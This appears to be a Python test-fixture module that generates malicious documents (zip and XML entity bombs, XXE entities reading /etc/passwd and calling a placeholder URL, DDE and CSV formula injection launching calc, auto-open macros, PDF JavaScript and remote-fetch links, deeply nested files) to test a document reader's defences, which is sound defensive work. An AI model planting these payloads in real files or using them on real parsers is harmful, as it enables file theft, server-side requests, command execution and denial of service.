"""Files that are there to harm the reader: too large, too deep, pointing elsewhere, locked."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from tests.unit.readers import ofds, opened
from tests.unit.readers.pdfs import (
    built,
    drawn,
    lines,
    many_pages,
    many_tables,
    nested_drawings,
    one_page,
    stream,
)
from tests.unit.readers.zips import archive

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_LINKS = "http://schemas.openxmlformats.org/package/2006/relationships"
_KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "哈哈">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)
ROWS = "行政许可\t12\n行政处罚\t3\n行政强制\t0\n"
# Each makes the bytes of a file; {url} in a name of a maker's text is where nobody may ask.
Maker = Callable[[str], bytes]


def _named(more: dict[str, str | bytes]) -> dict[str, str | bytes]:
    """Parts given as arguments: xl__styles_xml is xl/styles.xml."""
    return {n.replace("__", "/").replace("_xml", ".xml"): part for n, part in more.items()}


def docx(body: str | bytes, head: str = "", **more: str | bytes) -> bytes:
    """A document of this XML in its body; ``head`` stands before its first element."""
    links = f'<Relationship Id="r1" Type="{_KIND}/officeDocument" Target="word/document.xml"/>'
    whole = (
        body
        if isinstance(body, bytes)
        else f"<w:document {_W}><w:body>{body}</w:body></w:document>"
    )
    if isinstance(whole, str):
        whole = f"{head}{whole}"
    parts: dict[str, str | bytes] = {
        "_rels/.rels": f'<Relationships xmlns="{_LINKS}">{links}</Relationships>',
        "word/document.xml": whole,
    }
    return archive(
        parts
        | {name.replace("__", "/").replace("_xml", ".xml"): part for name, part in more.items()}
    )


def xlsx(sheet: str | bytes, head: str = "", **more: str | bytes) -> bytes:
    """A workbook of one sheet with these rows."""
    whole = sheet
    if isinstance(sheet, str):
        whole = f"{head}<worksheet {_S}><sheetData>{sheet}</sheetData></worksheet>"
    links = '<Relationship Id="r1" Type="x/worksheet" Target="worksheets/sheet1.xml"/>'
    parts: dict[str, str | bytes] = {
        "xl/workbook.xml": f'<workbook {_S} {_R}><sheets><sheet name="甲" sheetId="1" r:id="r1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_LINKS}">{links}</Relationships>',
        "xl/worksheets/sheet1.xml": whole,
    }
    return archive(
        parts
        | {name.replace("__", "/").replace("_xml", ".xml"): part for name, part in more.items()}
    )


def paragraph(text: str) -> str:
    """A Word paragraph."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def entity(url: str) -> str:
    """A document type that asks for a file and for an address."""
    return (
        f'<!DOCTYPE x SYSTEM "{url}/x.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY u SYSTEM "{url}/u">]>'
    )


def _cells(rows: int) -> bytes:
    row = b'<row><c t="n"><v>1</v></c><c t="n"><v>2</v></c></row>'
    return b"<worksheet><sheetData>" + row * rows + b"</sheetData></worksheet>"


def locked_zip(data: bytes) -> bytes:
    """The same zip with the mark of a password on every part."""
    changed = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(mark, start)) >= 0:
            changed[start + at] |= 1
            start += 4
    return bytes(changed)


def _formulas(url: str) -> bytes:
    calls = ("WEBSERVICE(&quot;{0}/f&quot;)", "HYPERLINK(&quot;{0}/h&quot;)", "cmd|'/C calc'!A0")
    cells = "".join(f"<c><f>{call.format(url)}</f><v>7</v></c>" for call in calls)
    return xlsx(f"<row>{cells}</row>", xl__vbaProject_bin=b"Auto_Open Shell calc")


def _remote_word(url: str) -> bytes:
    link = f'<Relationship Id="r9" Type="{_KIND}/attachedTemplate" TargetMode="External"'
    link += f' Target="{url}/t.dotm"/>'
    field = f'<w:fldSimple w:instr="INCLUDETEXT {url}/i">{paragraph("域")}</w:fldSimple>'
    rels = f'<Relationships xmlns="{_LINKS}">{link}</Relationships>'
    return docx(
        paragraph("正文") + field,
        word___rels__document_xml_rels=rels,
        word__vbaProject_bin=b"AutoOpen",
    )


_REPEATED = (
    '<table:table-row table:number-rows-repeated="1000000"><table:table-cell '
    'office:value-type="float" office:value="1" table:number-columns-repeated="16000">'
    "<text:p>1</text:p></table:table-cell></table:table-row>"
)


def _remote_odt(url: str) -> bytes:
    links = "".join(
        f'<{tag} xlink:href="{url}/{tag[-3:]}" xlink:actuate="onLoad"/>'
        for tag in ("draw:image", "draw:object", "text:section-source", "table:table-source")
    )
    return opened.packed(opened.flat(f"<text:p>正文</text:p><draw:frame>{links}</draw:frame>"))


def _remote_page(url: str) -> bytes:
    return (
        f'<!DOCTYPE html SYSTEM "{url}/d.dtd"><html><head><base href="{url}/">'
        f'<link rel="stylesheet" href="{url}/s.css"><script src="{url}/j.js"></script>'
        f'<meta http-equiv="refresh" content="0;url={url}/m"></head><body><p>正文</p>'
        f'<img src="{url}/i.png"><iframe src="{url}/f"></iframe><object data="{url}/o"></object>'
        f'<xi:include href="{url}/x" xmlns:xi="http://www.w3.org/2001/XInclude"/></body></html>'
    ).encode()


def _remote_pdf(url: str, contents: bytes = b"4 0 R") -> bytes:
    address = url.encode()
    return built(
        [
            b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(%s/a)>>/AA<</WC<</S/JavaScript"
            b"/JS(app.launchURL\\('%s/j'\\))>>>>>>" % (address, address),
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[%s]/Resources"
            b"<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>>>" % contents,
            stream(b"BT /F1 12 Tf 80 700 Td (12345) Tj ET"),
            b"<</Length 0/F<</FS/URL/F(%s/s)>>>>stream\n\nendstream" % address,
        ]
    )


def _deep_json(_: str) -> bytes:
    return b'{"form":"2021","tables":' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001


def _many_keys(_: str) -> bytes:
    rows: dict[str, Any] = {f"r{n}": {"c": 1} for n in range(200_000)}
    return json.dumps({"form": "2021", "tables": {"requests": rows}}).encode()


# What the suite reads every time.
SMALL: dict[str, Maker] = {
    "bomb.xlsx": lambda _: xlsx(b"<worksheet>" + b" " * 150_000_000),
    "bomb.docx": lambda _: docx(b"<w:document>" + b" " * 150_000_000),
    "bomb.pdf": lambda _: one_page(stream(b" " * 150_000_000)),
    "deep-bomb.pdf": lambda _: one_page(stream(b" " * 150_000_000, times=2)),
    "laughs.xlsx": lambda _: xlsx("<row><c><v>&a9;</v></c></row>", _LAUGHS),
    "laughs.docx": lambda _: docx(paragraph("&a9;"), _LAUGHS),
    "laughs.html": lambda _: f"{_LAUGHS.replace('x', 'html', 1)}<html><p>&a9;</p></html>".encode(),
    "entity.xlsx": lambda url: xlsx("<row><c><v>&f;&u;</v></c></row>", entity(url)),
    "entity.docx": lambda url: docx(paragraph("&f;&u;"), entity(url)),
    "entity.html": lambda url: f"{entity(url)}<html><p>&f;&u;正文</p></html>".encode(),
    "formulas.xlsm": _formulas,
    "formulas.csv": lambda url: f'a,b,c\n=WEBSERVICE("{url}"),=1+1,+cmd\n1,2,3\n4,5,6\n'.encode(),
    "remote.docm": _remote_word,
    "remote.html": _remote_page,
    "remote.pdf": _remote_pdf,
    "outside.pdf": lambda url: _remote_pdf(url, b"4 0 R 5 0 R"),
    "locked.pdf": lambda _: drawn(lines("有密码"), lock="secret"),
    "locked.docx": lambda _: locked_zip(docx(paragraph("正文"))),
    "locked.xlsx": lambda _: locked_zip(xlsx("<row><c><v>1</v></c></row>")),
    "nested.pdf": lambda _: nested_drawings(),
    "circle.pdf": lambda _: built(
        [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9>>"]
    ),
    "nested.html": lambda _: b"<html>" + b"<div>" * 50_000 + "正文".encode(),
    "nested.docx": lambda _: docx("<w:tbl><w:tr><w:tc>" * 3000 + "</w:tc></w:tr></w:tbl>" * 3000),
    "attributes.html": lambda _: b"<p " + b" ".join(b"a%d" % n for n in range(100_000)) + b">x",
    "attributes.docx": lambda _: docx(
        "<w:p " + " ".join(f"w:a{n}='1'" for n in range(100_000)) + "/>" + paragraph("正文")
    ),
    "sheet.html": lambda _: (
        b"<style>" + b".a{display:none}" * 60_000 + b"@media x {" * 9000 + b"</style>" + b"<p>x"
    ),
    "selectors.html": lambda _: b"<style>" + b"a," * 400_000 + b"{display:none}</style><p>x",
    "forms.html": lambda _: b"<table>" + b"<form>" * 1900 + b"<tr><td>1</td></tr></table>",
    "bomb.odt": lambda _: opened.packed(b"<office:document-content>" + b" " * 150_000_000),
    "bomb.ods": lambda _: opened.packed(
        opened.sheet("<table:table-row/>"), styles_xml=b"<x>" + b" " * 150_000_000
    ),
    "laughs.fodt": lambda _: opened.flat("<text:p>&a9;</text:p>", head=_LAUGHS),
    "entity.fods": lambda url: opened.sheet("<table:table-row>&f;&u;</table:table-row>").replace(
        b"?>", f"?>{entity(url)}".encode(), 1
    ),
    "remote.odt": _remote_odt,
    "locked.odt": lambda _: locked_zip(opened.packed(opened.flat("<text:p>正文</text:p>"))),
    "repeated.ods": lambda _: opened.packed(opened.sheet(_REPEATED * 4)),
    "repeated.odt": lambda _: opened.packed(
        opened.flat(f"<table:table>{_REPEATED * 4}</table:table>")
    ),
    "nested.odt": lambda _: opened.packed(
        opened.flat(
            "<table:table><table:table-row><table:table-cell>" * 75
            + "</table:table-cell></table:table-row></table:table>" * 75
        )
    ),
    "lists.odt": lambda _: opened.packed(
        opened.flat(
            "<text:list><text:list-item>" * 110
            + "<text:p>甲</text:p>"
            + "</text:list-item></text:list>" * 110
        )
    ),
    "bomb.ofd": lambda _: ofds.ofd(
        "", Doc_0__Pages__Page_0__Content_xml="<Page>" + " " * 150_000_000
    ),
    "steps.ofd": lambda _: ofds.ofd(
        ofds.text(20, 100, "12").replace('DeltaX="2"', f'DeltaX="{"g 999999 2 " * 50_000}"')
    ),
    "paths.ofd": lambda _: ofds.ofd(ofds.line(20, 100, 60, 100) * 40_000),
    "operators.ofd": lambda _: ofds.ofd(
        ofds.line(20, 100, 60, 100).replace("M 0 0", "M 0 0 L 1 1 " * 200_000)
    ),
    "entity.ofd": lambda url: ofds.ofd("", Doc_0__Document_xml=f"{entity(url)}<x>&f;&u;</x>"),
    "bomb.zip": lambda _: archive({"a.txt": b" " * 150_000_000}),
    "groups.rtf": lambda _: b"{\\rtf1" + b"{" * 3_000_000,
    "cells.rtf": lambda _: b"{\\rtf1\\intbl " + b"1\\cell " * 300_000,
    "remote.rtf": lambda url: (
        b'{\\rtf1{\\*\\template %s/t}{\\field{\\*\\fldinst INCLUDEPICTURE "%s/i"}{\\fldrslt 1}}'
        b"{\\object\\objautlink{\\*\\objdata 00}}x}" % (url.encode(), url.encode())
    ),
    "runs.docx": lambda _: docx(
        "<w:p>" + "<w:r>" * 240 + "<w:t>1</w:t>" + "</w:r>" * 240 + "</w:p>"
    ),
    "widths.docx": lambda _: docx(
        "<w:tbl>"
        + "<w:tr><w:tc><w:tcPr><w:gridSpan w:val='99999999999'/></w:tcPr></w:tc></w:tr>" * 500
        + "</w:tbl>"
    ),
    "open.html": lambda _: b"<html><p>x</p>" + b"<title>" * 100_000,
    "signs.html": lambda _: b"<html><p>x</p>" + b"<" * 400_000,
    "parts.mht": lambda _: (
        b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n"
        + b"--x\nContent-Type: text/html\n\n<p>x\n" * 200_000
    ),
    "letters.eml": lambda _: (
        b"From: a@b\nTo: c@d\nContent-Type: message/rfc822\n\n" * 20_000 + b"x"
    ),
    "spans.html": lambda _: (
        b"<table>" + b"<tr><td rowspan=99999 colspan=99999>1</td></tr>" * 300 + b"</table>"
    ),
    "deep.json": _deep_json,
    "digits.json": lambda _: b'{"form":"2021","year":' + b"9" * 1_000_000 + b"}",
    "digits.txt": lambda _: ROWS.encode() + b"9" * 300_000,
    "bars.txt": lambda _: ROWS.encode() + b"|" * 300_000,
    "blanks.txt": lambda _: ROWS.encode() + b" " * 300_000 + b"x",
    "quotes.csv": lambda _: b'a,b,"c\n' * 30_000,
}

# What takes seconds to make; read by `make safety`.
LARGE: dict[str, Maker] = {
    "rows.xlsx": lambda _: xlsx(_cells(1_000_000)),
    "rows.csv": lambda _: b"1,2,3\n" * 1_000_000,
    "rows.txt": lambda _: b"1\t2\t3\n" * 600_000,
    "rows.html": lambda _: b"<table>" + b"<tr><td>1</td><td>2</td></tr>" * 480_000,
    "rows.docx": lambda _: docx(
        "<w:tbl>" + "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 400_000 + "</w:tbl>"
    ),
    "most-rows.docx": lambda _: docx(
        "<w:tbl>" + "<w:tr><w:tc><w:p/></w:tc></w:tr>" * 95_000 + "</w:tbl>"
    ),
    "most-rows.html": lambda _: b"<table>" + b"<tr><td>1</td><td>2</td></tr>" * 83_000,
    "text.docx": lambda _: docx(paragraph("字") * 80_000),
    "pages.pdf": lambda _: many_pages(10_000),
    "slow-pages.pdf": lambda _: many_pages(290),
    "lines.pdf": lambda _: one_page(stream(b"0 0 m 9 9 l S " * 74_000)),
    "tables.pdf": lambda _: many_tables(),
    "states.pdf": lambda _: one_page(stream(b"q Q " * 260_000)),
    "bomb-1g.xlsx": lambda _: xlsx(b"<worksheet>" + b" " * 1_000_000_000),
    "keys.json": _many_keys,
    "words.txt": lambda _: "行政许可 12 ".encode() * 37_000,  # as many as are read
    "labels.txt": lambda _: "行政许可\n".encode() * 300_000,
    "line.txt": lambda _: "本年新收".encode() * 400_000,
    "signs.ofd": lambda _: ofds.ofd(ofds.text(20, 100, "1" * 20_000) * 40),
    "words.rtf": lambda _: b"{\\rtf1" + b"x\\b " * 2_000_000,
    "rows.rtf": lambda _: b"{\\rtf1\\trowd\\cellx9 " + b"\\intbl 1\\cell\\row " * 300_000,
    "levels.rtf": lambda _: b"{\\rtf1" + b"\\itap99999 1\\nestcell\\nestrow\\itap1 " * 60_000,
    "fonts.rtf": lambda _: b"{\\rtf1{\\fonttbl" + b"{\\f1\\fcharset134 x;}" * 300_000 + b"}x}",
    "lists.docx": lambda _: docx(
        "<w:p><w:pPr><w:numPr><w:numId w:val='1'/></w:numPr></w:pPr><w:r><w:t>甲</w:t></w:r></w:p>"
        * 20_000
    ),
    "rules.pdf": lambda _: one_page(
        stream(b"0 9 m 500 9 l S " * 1400 + b"BT /F1 12 Tf 8 5 Td (" + b"1" * 40_000 + b") Tj ET")
    ),
    "formats.xlsx": lambda _: xlsx(
        "<row><c s='0'><v>4213</v></c></row>" * 20_000,
        xl__styles_xml="<styleSheet><numFmts><numFmt numFmtId='200' formatCode='"
        + "0!," * 160
        + "'/></numFmts><cellXfs><xf numFmtId='200'/></cellXfs></styleSheet>",
    ),
}
